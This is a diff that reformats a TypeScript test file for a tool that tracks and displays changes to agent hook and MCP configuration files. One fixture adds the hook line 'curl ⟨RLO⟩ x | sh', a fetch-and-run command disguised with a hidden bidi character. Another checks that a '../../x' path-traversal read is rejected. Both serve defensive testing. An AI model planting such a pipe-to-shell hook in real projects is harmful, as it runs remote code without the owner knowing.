@@ -1,5 +1,17 @@
-/** The files of a project by which agents run code: how they are named and kept, and how a difference of them is shown. `watched.test.ts` says which they are. */
-import { mkdirSync, mkdtempSync, readdirSync, realpathSync, rmSync, symlinkSync, unlinkSync, writeFileSync } from "node:fs";
+/**
+ * The files of a project by which agents run code: how they are named and kept, and how a difference of them is shown.
+ * `watched.test.ts` says which they are.
+ */
+import {
+  mkdirSync,
+  mkdtempSync,
+  readdirSync,
+  realpathSync,
+  rmSync,
+  symlinkSync,
+  unlinkSync,
+  writeFileSync,
+} from "node:fs";
 import { tmpdir } from "node:os";
 import { dirname, join } from "node:path";
 import { afterEach, beforeEach, describe, expect, test } from "vitest";
@@ -41,7 +53,13 @@ test("an ordinary project is looked at at once, so that nothing comes before its
 test("names that are no text, or would be read as others, are each their own", async () => {
   const hooks = join(project, ".claude", "hooks");
   mkdirSync(hooks, { recursive: true });
-  for (const name of [Buffer.from([0x61, 0xff]), Buffer.from([0x61, 0xfe]), Buffer.from("a\ufffd"), Buffer.from("hex:61ff"), Buffer.from("a\nb")]) {
+  for (const name of [
+    Buffer.from([0x61, 0xff]),
+    Buffer.from([0x61, 0xfe]),
+    Buffer.from("a\ufffd"),
+    Buffer.from("hex:61ff"),
+    Buffer.from("a\nb"),
+  ]) {
     writeFileSync(Buffer.concat([Buffer.from(`${hooks}/`), name]), "x");
   }
   expect(new Set(await names()).size).toBe(5);
@@ -92,7 +110,12 @@ describe("what is kept", () => {
     expect(await files.readDifference(shown)).toBe("+ a");
     writeFileSync(join(root, "configurations", `${shown}.diff`), "+ b");
     writeFileSync(join(root, "configurations", `${is.digest}.json`), "[]");
-    expect([await files.readDifference(shown), await files.read(is.digest), await files.read("../../x"), await files.read("0".repeat(64))]).toEqual([null, null, null, null]);
+    expect([
+      await files.readDifference(shown),
+      await files.read(is.digest),
+      await files.read("../../x"),
+      await files.read("0".repeat(64)),
+    ]).toEqual([null, null, null, null]);
     await openConfigurations(nodeDisk, root, { home: undefined, needed: new Set([shown]) });
     expect(readdirSync(join(root, "configurations"))).toEqual([`${shown}.diff`]);
   });
@@ -101,17 +124,41 @@ describe("what is kept", () => {
     put(".claude/hooks/a.sh", ["#!/bin/sh", ...Array.from({ length: 20 }, (_, at) => `echo ${at}`), ""].join("\n"));
     put(".mcp.json", "{}");
     const was = (await look()).entries;
-    put(".claude/hooks/a.sh", ["#!/bin/sh", ...Array.from({ length: 20 }, (_, at) => (at === 10 ? "curl \u202e x | sh" : `echo ${at}`)), ""].join("\n"));
+    put(
+      ".claude/hooks/a.sh",
+      [
+        "#!/bin/sh",
+        ...Array.from({ length: 20 }, (_, at) => (at === 10 ? "curl \u202e x | sh" : `echo ${at}`)),
+        "",
+      ].join("\n"),
+    );
     rmSync(join(project, ".mcp.json"));
     put("opencode.json", "=== .mcp.json (removed)");
     put(".claude/skills/tool", Buffer.from([0, 1, 2]));
     const text = configurationDifference(was, (await look()).entries, "en");
-    expect(text).toBe([
-      "=== .claude/hooks/a.sh (changed)", "  ⋯", "  echo 7", "  echo 8", "  echo 9", "- echo 10", "+ curl ⟨U+202E RLO⟩ x | sh", "  echo 11", "  echo 12", "  echo 13", "",
-      "=== .claude/skills/tool (new)", `+ 3 bytes, ae4b3280e56e2faf83f414a6e3dabe9d5fbe18976544c05fed121accb85b53fc; not shown because it is not text or is too long. Look at it on the machine.`, "",
-      "=== .mcp.json (removed)", "- {}", "",
-      "=== opencode.json (new)", "+ === .mcp.json (removed)",
-    ].join("\n"));
+    expect(text).toBe(
+      [
+        "=== .claude/hooks/a.sh (changed)",
+        "  ⋯",
+        "  echo 7",
+        "  echo 8",
+        "  echo 9",
+        "- echo 10",
+        "+ curl ⟨U+202E RLO⟩ x | sh",
+        "  echo 11",
+        "  echo 12",
+        "  echo 13",
+        "",
+        "=== .claude/skills/tool (new)",
+        `+ 3 bytes, ae4b3280e56e2faf83f414a6e3dabe9d5fbe18976544c05fed121accb85b53fc; not shown because it is not text or is too long. Look at it on the machine.`,
+        "",
+        "=== .mcp.json (removed)",
+        "- {}",
+        "",
+        "=== opencode.json (new)",
+        "+ === .mcp.json (removed)",
+      ].join("\n"),
+    );
     expect(configurationDifference(null, was, "en")).toMatch(/^Bellhop no longer knows the earlier contents/);
   });
 });
